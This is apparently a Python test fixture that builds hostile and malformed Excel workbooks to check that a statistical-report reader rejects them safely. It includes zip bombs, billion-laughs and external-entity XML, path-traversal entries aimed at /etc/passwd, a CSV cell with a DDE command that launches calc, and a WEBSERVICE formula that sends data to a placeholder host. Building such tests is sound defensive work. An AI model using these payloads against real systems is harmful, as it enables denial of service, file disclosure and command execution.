"""Hostile, broken and absurd files, each made here from a good return; the docstring says how.

None was made by Excel or WPS, none came from outside. A maker takes the path to write and the
bytes of a good return (2026年3月 of 兴盛街道).
"""

import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

from tests.files import specimens as odd
from tests.hostile.mutations import packed, parts_of

SHEET, BOOK = "xl/worksheets/sheet2.xml", "xl/workbook.xml"
STRINGS, TYPES = "xl/sharedStrings.xml", "[Content_Types].xml"
#: what an external entity would fetch, were one ever resolved
SECRET = "不该被读到的内容"

Maker = Callable[[Path, bytes], object]


def _with(path: Path, good: bytes, name: str, change: Callable[[str], str]) -> None:
    parts = parts_of(good)
    parts[name] = change(parts[name].decode()).encode()
    path.write_bytes(packed(parts))


def _more(path: Path, good: bytes, name: str, data: bytes) -> None:
    path.write_bytes(packed(parts_of(good) | {name: data}))


# ------------------------------------------------------------------ bombs


def nested_bomb(path: Path, good: bytes) -> None:
    """A zip in a zip in a zip (8 deep, 4 times 1 MB of zeros each) as a picture in the package."""
    inner = bytes(1 << 20)
    for _ in range(8):
        stream = BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            for n in range(4):
                archive.writestr(f"{n}.zip", inner)
        inner = stream.getvalue()
    _more(path, good, "xl/media/image1.zip", inner)


def huge_sheet(path: Path, good: bytes) -> None:
    """The form page followed by 201 MB of blanks, 1000 : 1 when zipped."""
    parts = parts_of(good)
    parts[SHEET] += b" " * (201 << 20)
    path.write_bytes(packed(parts))


def many_large_parts(path: Path, good: bytes) -> None:
    """Six parts of 40 MB of blanks: none too large by itself."""
    parts = parts_of(good)
    path.write_bytes(packed(parts | {f"xl/extra{n}.xml": b" " * (40 << 20) for n in range(6)}))


def lying_size(path: Path, good: bytes) -> None:
    """Shared strings of 150 MB whose headers say 1,000 bytes."""
    parts = parts_of(good)
    size = 150 << 20
    parts[STRINGS] += b" " * (size - len(parts[STRINGS]))
    data = packed(parts)
    path.write_bytes(data.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little")))


def billion_strings(path: Path, good: bytes) -> None:
    """A table of shared strings that declares 4,294,967,295 of them."""
    _with(path, good, STRINGS, lambda xml: xml.replace(
        "<sst ", '<sst count="4294967295" uniqueCount="4294967295" ', 1
    ).replace('" count="', '" x="', 1))  # fmt: skip


def many_strings(path: Path, good: bytes) -> None:
    """300,000 empty shared strings behind the real ones (4 MB)."""
    _with(path, good, STRINGS, lambda xml: xml.replace("</sst>", "<si><t/></si>" * 300_000
                                                       + "</sst>"))  # fmt: skip


def deep_nesting(path: Path, good: bytes) -> None:
    """A million tags inside one another behind the cells of the form page."""
    deep = "<a>" * 1_000_000 + "</a>" * 1_000_000
    _with(path, good, SHEET, lambda xml: xml.replace("</worksheet>", deep + "</worksheet>"))


def deep_nesting_irregular(path: Path, good: bytes) -> None:
    """The same in a sheet whose tags have a prefix, which a real parser must read."""
    deep = "<a>" * 1_000_000 + "</a>" * 1_000_000
    xml = f'<x:worksheet xmlns:x="u"><x:sheetData>{deep}</x:sheetData></x:worksheet>'
    _with(path, good, SHEET, lambda _: xml)


def five_thousand_sheets(path: Path, good: bytes) -> None:
    """5,000 sheets more, all of them the same empty part."""
    tags = "".join(f'<sheet name="多{n}" sheetId="{n}" r:id="rIdX"/>' for n in range(100, 5100))
    parts = parts_of(good)
    relations = "xl/_rels/workbook.xml.rels"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    more = f'<Relationship Id="rIdX" Type="{kind}" Target="worksheets/x.xml"/></Relationships>'
    parts[BOOK] = parts[BOOK].replace(b"</sheets>", tags.encode() + b"</sheets>")
    parts[relations] = parts[relations].replace(b"</Relationships>", more.encode())
    parts["xl/worksheets/x.xml"] = b"<worksheet><sheetData/></worksheet>"
    path.write_bytes(packed(parts))


def hundred_thousand_names(path: Path, good: bytes) -> None:
    """100,000 defined names more, each for one cell."""
    tags = "".join(
        f'<definedName name="n{n}">月报!$A${n % 99 + 1}</definedName>' for n in range(100_000)
    )
    _with(path, good, BOOK, lambda xml: xml.replace("</definedNames>", tags + "</definedNames>"))


def a_column_filled(path: Path, good: bytes) -> None:
    """Column Z of the form page filled down over 200,000 rows."""
    rows = "".join(f'<row r="{n}"><c r="Z{n}"><v>1</v></c></row>' for n in range(200, 200_200))
    _with(path, good, SHEET, lambda xml: xml.replace("</sheetData>", rows + "</sheetData>"))


# ------------------------------------------------------------------ XML that wants something


def billion_laughs(path: Path, good: bytes) -> None:
    """Ten entities of ten entities each before the form page, the last used in a cell."""
    names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE w [<!ENTITY l0 "哈">{names}]>'
    row = '<row r="90"><c r="A90" t="str"><v>&l9;</v></c></row></sheetData>'
    _with(path, good, SHEET, lambda xml: xml.replace("<worksheet", f"{head}<worksheet", 1)
          .replace("</sheetData>", row))  # fmt: skip


def external_entity(path: Path, good: bytes) -> None:
    """An entity that is a file beside the specimen, used for every shared string."""
    secret = path.with_name("secret.txt")
    secret.write_text(SECRET, encoding="utf-8")
    head = f'<!DOCTYPE sst [<!ENTITY f SYSTEM "{secret.as_uri()}">]>'
    _with(path, good, STRINGS, lambda xml: xml.replace("<sst", f"{head}<sst", 1)
          .replace("<t>", "<t>&f;"))  # fmt: skip


def entities_in_the_names(path: Path, good: bytes) -> None:
    """A document type with an entity before the workbook's list of names."""
    _with(path, good, BOOK, lambda xml: xml.replace(
        "<workbook", '<!DOCTYPE w [<!ENTITY x "y">]><workbook', 1))  # fmt: skip


# ------------------------------------------------------------------ the zip


def names_that_climb(path: Path, good: bytes) -> None:
    """Parts called ../../x, /tmp/x and C:\\x beside the real ones."""
    climbing = {"../../climbed.txt": b"x", "/tmp/climbed.txt": b"x", "C:\\climbed.txt": b"x"}
    path.write_bytes(packed(parts_of(good) | climbing))


def climbing_relation(path: Path, good: bytes) -> None:
    """The form page's relation points out of the package."""
    _with(path, good, "xl/_rels/workbook.xml.rels", lambda xml: xml.replace(
        "worksheets/sheet2.xml", "../../../etc/passwd"))  # fmt: skip


def part_twice(path: Path, good: bytes) -> None:
    """The form page twice under one name, the second with other figures."""
    path.write_bytes(good)
    with zipfile.ZipFile(path) as archive:
        other = archive.read(SHEET).replace(b"<v>1</v>", b"<v>2</v>")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(SHEET.upper().replace("XL/", "xl/"), other)


def broken_checksum(path: Path, good: bytes) -> None:
    """Bytes inside the form page's compressed data turned over."""
    path.write_bytes(good)
    odd.FORM, form = SHEET, odd.FORM
    try:
        odd.with_flipped_bytes(path)
    finally:
        odd.FORM = form


def cut(path: Path, good: bytes) -> None:
    """The first two thirds."""
    path.write_bytes(good[: len(good) * 2 // 3])


def behind_a_pdf(path: Path, good: bytes) -> None:
    """A PDF's head, then the whole zip: both at once, depending on who opens it."""
    path.write_bytes(b"%PDF-1.7\n%%EOF\n" + good)


def behind_a_program(path: Path, good: bytes) -> None:
    """The head of a Windows program, then the whole zip."""
    path.write_bytes(b"MZ\x90\x00" + bytes(60) + b"This program cannot be run" + good)


def encrypted(path: Path, good: bytes) -> None:
    """A compound file with the stream of an encrypted package."""
    path.write_bytes(odd.ole2("EncryptedPackage"))


def encrypted_zip(path: Path, good: bytes) -> None:
    """Every entry's flag says that it is encrypted."""
    data = bytearray(good)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(mark)
        while start >= 0:
            data[start + at] |= 1
            start = data.find(mark, start + 4)
    path.write_bytes(data)


def old_excel(path: Path, good: bytes) -> None:
    """A compound file with the stream of an .xls."""
    path.write_bytes(odd.ole2("Workbook"))


def web_page(path: Path, good: bytes) -> None:
    """A table in HTML, as web systems export, with a script."""
    path.write_text("<html><script>alert(1)</script><table></table>", encoding="utf-8")


def comma_separated(path: Path, good: bytes) -> None:
    """A CSV in GBK under the name of a workbook."""
    path.write_bytes("单位,刑事立案数\n=cmd|' /C calc'!A0,1\n".encode("gbk"))


def nothing(path: Path, good: bytes) -> None:
    """0 bytes."""
    path.write_bytes(b"")


def zeros(path: Path, good: bytes) -> None:
    """A megabyte of zeros: a stick pulled out too early."""
    path.write_bytes(bytes(1 << 20))


def too_large(path: Path, good: bytes) -> None:
    """A sparse file of 3 GB whose head is right."""
    with path.open("wb") as stream:
        stream.write(good)
        stream.truncate(3 << 30)


# ------------------------------------------------------------------ what is no file


def folder(path: Path, good: bytes) -> None:
    """An empty folder called like a workbook."""
    path.mkdir()


def unpacked(path: Path, good: bytes) -> None:
    """A workbook that was unpacked into a folder of its name."""
    for name, data in parts_of(good).items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_bytes(data)


def pipe(path: Path, good: bytes) -> None:
    """A FIFO that nobody writes to."""
    os.mkfifo(path)


def link_in_a_circle(path: Path, good: bytes) -> None:
    """A symbolic link to itself."""
    path.symlink_to(path)


def dangling_link(path: Path, good: bytes) -> None:
    """A symbolic link to a file that is gone."""
    path.symlink_to(path.with_name("没有.xlsx"))


# ------------------------------------------------------------------ names and cells


def _renamed(path: Path, good: bytes, name: str, text: str) -> None:
    path.write_bytes(good)
    odd.renaming(path, name, text)


def names_in_a_circle(path: Path, good: bytes) -> None:
    """刑事立案数 is 可防性案件数 and that is 刑事立案数."""
    _renamed(path, good, "刑事立案数", "可防性案件数")
    odd.renaming(path, "可防性案件数", "刑事立案数")


def name_of_a_formula(path: Path, good: bytes) -> None:
    """The name of the unit's cell is a formula that fetches something from the web."""
    _renamed(path, good, "填报单位", 'WEBSERVICE("http://example.invalid/"&amp;月报!$B$3)')


def name_deleted(path: Path, good: bytes) -> None:
    """An item's cell was deleted."""
    _renamed(path, good, "刑事立案数", "月报!#REF!")


def name_of_a_column(path: Path, good: bytes) -> None:
    """An item is a whole column."""
    _renamed(path, good, "刑事立案数", "月报!$E:$E")


def name_of_everything(path: Path, good: bytes) -> None:
    """The register of events is a whole sheet: 17 thousand million cells."""
    _renamed(path, good, "重大事项登记", "重大事项!$A$1:$XFD$1048576")


def stray_at_the_end(path: Path, good: bytes) -> None:
    """A number in the last cell that a sheet has."""
    cell = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    _with(path, good, SHEET, lambda xml: xml.replace("</sheetData>", cell))


def row_beyond_numbers(path: Path, good: bytes) -> None:
    """A cell in a row whose number has 5,000 digits."""
    row = "9" * 5000
    cell = f'<row r="{row}"><c r="AA{row}"><v>1</v></c></row></sheetData>'
    _with(path, good, SHEET, lambda xml: xml.replace("</sheetData>", cell))


def _first_count(xml: str, inside: str, attributes: str = "") -> str:
    """The form page with other contents in the cell of 刑事立案数."""
    start = xml.index(f'<c r="{COUNT_CELL}"')
    end = xml.index("</c>", start)
    style = xml[start:end].partition(' s="')[2].partition('"')[0]
    cell = f'<c r="{COUNT_CELL}" s="{style}"{attributes}>{inside}'
    return xml[:start] + cell + xml[end:]


#: where the layout of the form puts 刑事立案数; found from the defined names by the test
COUNT_CELL = "E12"


_INLINE = ' t="inlineStr"'


def _inline(text: str) -> str:
    return f"<is><t>{text}</t></is>"


def count_of(inside: str, attributes: str = "") -> Maker:
    """A maker that puts raw XML into the cell of 刑事立案数."""

    def make(path: Path, good: bytes) -> None:
        _with(path, good, SHEET, lambda xml: _first_count(xml, inside, attributes))

    return make


@dataclass(frozen=True)
class Specimen:
    """A maker and what must come of it: a reason that begins so, or the code of a finding.

    ``finding`` None and ``reason`` empty: harmless, read like any other return.
    """

    name: str
    make: Maker
    reason: str = ""
    finding: str | None = None


def _identity(name: str, value: object) -> Maker:
    """A maker that puts ``value`` into an identity cell, found by its name."""

    def make(path: Path, good: bytes) -> None:
        cell = IDENTITY_CELLS[name]
        inside = f"<is><t>{value}</t></is>" if isinstance(value, str) else f"<v>{value}</v>"
        path.write_bytes(good)
        form, odd.FORM = odd.FORM, SHEET
        odd.with_content(path, cell, inside, ' t="inlineStr"' if isinstance(value, str) else "")
        odd.FORM = form

    return make


#: where the layout puts identity; filled by the test
IDENTITY_CELLS: dict[str, str] = {}

_LARGE, _BROKEN, _SPOILT = "内容过大", "文件已损坏或没有复制完", "内容已损坏"
_LOST = "不是本系统的报表：找不到名称"

SPECIMENS = (
    Specimen("嵌套压缩炸弹", nested_bomb),
    Specimen("高压缩比", huge_sheet, _LARGE),
    Specimen("多个大部件", many_large_parts, _LARGE),
    Specimen("谎报大小", lying_size, "(读|内容)"),
    Specimen("谎报共享文字个数", billion_strings, "读取时程序中断"),
    Specimen("三十万条共享文字", many_strings),
    Specimen("深层嵌套", deep_nesting),
    Specimen("深层嵌套带前缀", deep_nesting_irregular, "."),
    Specimen("五千张工作表", five_thousand_sheets),
    Specimen("十万个名称", hundred_thousand_names, "定义的名称过多"),
    Specimen("整列填充", a_column_filled, finding="S1"),
    Specimen("十亿个哈", billion_laughs, "内部有不应有的定义"),
    Specimen("外部实体", external_entity, "."),
    Specimen("名称前有定义", entities_in_the_names, "内部有不应有的定义"),
    Specimen("路径穿越", names_that_climb),
    Specimen("关系穿越", climbing_relation, _BROKEN),
    Specimen("同名部件", part_twice, "压缩包里有两个同名的部分"),
    Specimen("校验和不符", broken_checksum, _BROKEN),
    Specimen("截断", cut, _BROKEN),
    Specimen("PDF里的压缩包", behind_a_pdf, "是 PDF 文件"),
    Specimen("程序里的压缩包", behind_a_program, "不是 Excel 工作簿"),
    Specimen("打开密码", encrypted, "设有打开密码"),
    Specimen("压缩包密码", encrypted_zip, "压缩包设有密码"),
    Specimen("旧格式", old_excel, "是旧格式"),
    Specimen("网页", web_page, "是网页"),
    Specimen("文本", comma_separated, "是文本"),
    Specimen("零字节", nothing, "是空文件"),
    Specimen("全是零", zeros, "不是 Excel 工作簿"),
    Specimen("三千兆", too_large, "超过 20 MB"),
    Specimen("文件夹", folder, "是文件夹"),
    Specimen("拆开的工作簿", unpacked, "是文件夹"),
    Specimen("管道", pipe, "是文件夹或设备"),
    Specimen("循环链接", link_in_a_circle, "读不出来|找不到"),
    Specimen("断了的链接", dangling_link, "找不到这个文件"),
    Specimen("名称循环", names_in_a_circle, _LOST),
    Specimen("名称是公式", name_of_a_formula, _LOST),
    Specimen("名称失效", name_deleted, "名称“刑事立案数”所指"),
    Specimen("名称指整列", name_of_a_column, _LOST),
    Specimen("登记区指整张表", name_of_everything, "."),
    Specimen("末格散值", stray_at_the_end, finding="S1"),
    Specimen("行号过长", row_beyond_numbers, "工作表内容已损坏"),
    Specimen("超长文字", count_of(_inline("长" * 5_000_000), _INLINE), finding="04"),
    Specimen("很多零散数字", count_of(_inline("1 " * 100_000 + "a"), _INLINE), finding="04"),
    Specimen("公式写成文字", count_of("<is><t>=1+1</t></is>", ' t="inlineStr"'), finding="04"),
    Specimen("负数", count_of("<v>-1</v>"), finding="04"),
    Specimen("1e308", count_of("<v>1e308</v>"), finding="04"),
    Specimen("1e309", count_of("<v>1e309</v>"), finding="04"),
    Specimen("NaN", count_of("<v>NaN</v>"), finding="04"),
    Specimen("四百位数", count_of(f"<v>{'9' * 400}</v>"), finding="04"),
    Specimen("年份五千位", _identity("年份", "9" * 5000), r"年份（.+）是 9{40}，位数过多"),
    Specimen("年份九万", _identity("年份", 99999), "."),
    Specimen("年份零", _identity("年份", 0), "."),
    Specimen("月份一亿", _identity("月份", 100_000_000), "月份是 100000000，应为 1 至 12"),
    Specimen("单位是脚本", _identity("填报单位", "&lt;script&gt;"), finding="02"),
    Specimen("手机号填成数", count_of("<v>13800138000</v>"), finding="04"),
)  # fmt: skip
